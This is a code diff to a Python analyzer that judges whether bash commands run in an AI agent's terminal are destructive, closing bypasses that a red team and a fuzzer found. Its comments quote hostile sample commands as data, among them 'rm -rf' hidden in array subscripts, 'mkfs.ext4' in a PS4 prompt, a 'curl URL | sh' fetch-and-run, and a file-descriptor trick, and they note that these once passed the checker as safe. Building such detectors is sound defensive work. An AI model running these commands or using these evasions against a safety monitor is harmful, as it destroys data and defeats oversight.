@@ -444,7 +444,7 @@ class _Analyzer:
         """A name whose subscript bash evaluates now (`let`, `read`, `declare`, `unset`): its `$(...)`
         runs, and a command name it cannot tell holds too (`declare 'a[$(${x:-rm} -rf DIR)]=1'`)."""
         if _SUBSCRIPT_CODE.search(text):
-            self.keep_deletions(functools.partial(self.judge_string, _as_heredoc(text)), True)
+            self.keep_deletions(functools.partial(self.judge_string, _as_heredoc(text)), True, every=True)
 
     def heredoc_unparsed(self, node: Node) -> None:
         """What tree-sitter leaves unparsed in a here-document bash expands: a backquote, a `$(...)`
@@ -562,7 +562,18 @@ class _Analyzer:
                     fed = _Stdin("unknown", "", f"the output of {_snip(source.source)}")
                 else:
                     fed = _Stdin("file", text=source.value, source=source.source)  # text: the file's name
+            elif r.type == "file_redirect" and self.redirect_operator(r) == "<&" and self.into_stdin(r):
+                # `exec 4<<EOF ... EOF; bash <&4`: what descriptor 4 holds was written elsewhere (judged an
+                # interactive shell, moderate: a fuzzer against bash, second round, 2026-12-05)
+                source = self.word(r.children_by_field_name("destination")[:1])
+                if source.value not in ("0", "0-", "-"):  # `<&0` keeps stdin, `<&-` closes it
+                    fed = _Stdin("unknown", "", f"file descriptor {_snip(source.source)}")
         return fed
+
+    def into_stdin(self, r: Node) -> bool:
+        """Whether a redirection sets standard input (`<&3`, `0<&3`; not `5<&3`)."""
+        descriptor = r.child_by_field_name("descriptor")
+        return descriptor is None or self.node_text(descriptor) == "0"
 
     def redirect_operator(self, r: Node) -> str:
         for c in r.children:
@@ -1085,10 +1096,11 @@ class _Analyzer:
         DIR)'; set -x`), a name evaluated as arithmetic (`x='a[$(rm -rf DIR)]'; echo $((x))`),
         `compgen -W` (fifth red team, 2026-12-04: each ran rm judged safe or moderate). Its command
         substitutions are judged, read as a here-document's are (a prompt's quoting: `PS1='$(__git_ps1
-        " (%s)")'`), and a deletion found there holds the command (a prompt may never be shown)."""
+        " (%s)")'`), and what destroys there holds the command (a prompt may never be shown), but not
+        what cannot be told."""
         if "$(" not in text and "`" not in text:
             return
-        self.keep_deletions(functools.partial(self.judge_string, _as_heredoc(text)), False)
+        self.keep_deletions(functools.partial(self.judge_string, _as_heredoc(text)), False, every=True)
 
     def judge_string(self, code: str) -> None:
         self.report.in_string += 1
@@ -1128,12 +1140,17 @@ class _Analyzer:
         path = script_path(self.cwd, value)
         return path is not None and installed_program(path)
 
-    def keep_deletions(self, judge: Callable[[], None], keep_cannot_tell: bool, *, keep_outside: bool = True) -> bool:
+    def keep_deletions(
+        self, judge: Callable[[], None], keep_cannot_tell: bool, *, keep_outside: bool = True, every: bool = False
+    ) -> bool:
         """Judge what a command may run, and keep what it finds only where it deletes or (when
         `keep_outside`) hands a program off outside Cowork Terminal's watch, and its "cannot tell"
         when asked; its `cd` and the scripts it read are undone (not the files it may write). A
         guess never lets a command out of the container: a finding kept has no kind. When the
-        command is too large to judge, that stands."""
+        command is too large to judge, that stands. `every`: code bash surely runs when the text is
+        used (a subscript, a prompt), so each destructive finding is kept but "cannot tell"
+        (`PS4='$(mkfs.ext4 /dev/sdb1)'; set -x` and `declare -i i='a[$(curl URL | sh)]'` were safe: a
+        fuzzer against bash, second round, 2026-12-05)."""
         report, cwd = self.report, self.cwd
         mark = report.mark()
         judge()
@@ -1142,6 +1159,7 @@ class _Analyzer:
             dataclasses.replace(f, kind=None) for f in report.findings[mark.findings :]
             if f.tier is D and (
                 f.danger in _DELETES
+                or (every and f.danger is not Danger.CANNOT_TELL)
                 or (keep_outside and f.danger is Danger.OUTSIDE_WATCH)
                 or (keep_cannot_tell and f.danger is Danger.CANNOT_TELL)
             )
